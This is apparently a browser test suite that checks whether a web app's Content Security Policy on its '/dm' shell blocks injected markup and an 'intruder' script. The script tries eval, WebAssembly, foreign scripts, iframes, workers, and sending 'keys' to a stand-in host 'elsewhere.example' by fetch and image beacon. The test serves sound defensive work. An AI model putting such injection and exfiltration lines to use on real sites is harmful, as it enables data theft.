"""What a hole in the shell of /dm would be worth: markup and a script that got in all the same, under its policy and without one."""

import re

import pytest

from tests.browser.conftest import HANG
from tests.sealed import fresh
from tests.server import wait_until

ELSEWHERE, SOON = "https://elsewhere.example", 600  # ms in which a frame would have come on a machine with nothing else to do
MARKUP = f"""
    <script>window.inline = true</script>
    <img src="/missing.png" onerror="window.handler = true">
    <script src="{ELSEWHERE}/foreign.js"></script>
    <style>body {{ --styled: yes }}</style>
    <script type="module" src="/ui/js/intruder.js"></script>
</body>"""
# A script that came from where scripts may come from, and what it tries.
INTRUDER = f"""
    const tried = {{}}, wasm = new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])
    const attempt = (name, act) => Promise.resolve().then(act).then(() => {{ tried[name] = true }}, () => {{ tried[name] = false }})
    const loaded = (tag, src) => new Promise((resolve, reject) => Object.assign(document.createElement(tag), {{src, onload: resolve, onerror: reject}}))
    await Promise.all([
        attempt("eval", () => (0, eval)("1")),
        attempt("function", () => Function("return 1")()),
        attempt("wasm", () => WebAssembly.compile(wasm)),
        attempt("html", () => {{ document.createElement("div").innerHTML = "<b>x</b>" }}),
        attempt("policy", () => trustedTypes.createPolicy("neospace", {{createHTML: text => text}})),
        attempt("telling", () => fetch("{ELSEWHERE}/told", {{method: "POST", body: "keys"}})),
        attempt("telling by picture", () => loaded("img", "{ELSEWHERE}/told.png")),
        attempt("frame", () => new Promise((resolve, reject) => {{
            addEventListener("message", resolve)
            document.body.append(Object.assign(document.createElement("iframe"), {{src: "{ELSEWHERE}/frame"}}))
            setTimeout(reject, SOON)
        }})),
        attempt("worker", () => new Promise((resolve, reject) => {{
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], {{type: "text/javascript"}})))
            Object.assign(worker, {{onmessage: resolve, onerror: reject}})
        }})),
    ])
    window.outcome = () => {{
        const {{inline, handler, foreign}} = window, styled = getComputedStyle(document.body).getPropertyValue("--styled") !== ""
        return {{...tried, inline: !!inline, handler: !!handler, foreign: !!foreign, styled}}
    }}
"""
THERE = {  # what that other site has
    "foreign.js": ("text/javascript", "window.foreign = true"),
    "frame": ("text/html", "<script>parent.postMessage('here', '*')</script>"),
    "told": ("text/plain", "thanks"),
    "told.png": ("image/svg+xml", '<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>'),
}


def elsewhere(route) -> None:
    kind, body = THERE[route.request.url.rpartition("/")[2]]
    route.fulfill(body=body, content_type=kind, headers={"Access-Control-Allow-Origin": "*"})


def break_in(page, policy: bool) -> dict[str, bool]:
    """Load the shell with the intruders in it; gives what each of them managed to do."""
    def shell(route):
        answer = route.fetch()
        headers = {name: value for name, value in answer.headers.items() if policy or name != "content-security-policy"}
        route.fulfill(response=answer, headers=headers, body=answer.text().replace("</body>", MARKUP))

    intruder = INTRUDER.replace("SOON", str(SOON if policy else HANG))
    page.route(re.compile("/dm$"), shell)
    page.route("**/ui/js/intruder.js", lambda route: route.fulfill(body=intruder, content_type="text/javascript"))
    page.route(f"{ELSEWHERE}/**", elsewhere)
    page.reload()
    outcome = wait_until(lambda: page.evaluate("window.outcome?.()"))
    return outcome if policy else wait_until(lambda: all((found := page.evaluate("window.outcome()")).values()) and found)


@pytest.mark.parametrize("policy", [True, False], ids=["under the policy", "without one"])
def test_what_gets_into_the_shell_can_do_nothing_there_and_could_do_all_of_it_without_the_policy(open_as, policy):
    page = open_as(fresh("ada"), "/dm")
    outcome = break_in(page, policy)
    page.errors.clear()  # the browser tells of each refusal
    assert outcome == dict.fromkeys(outcome, not policy) and len(outcome) == 13
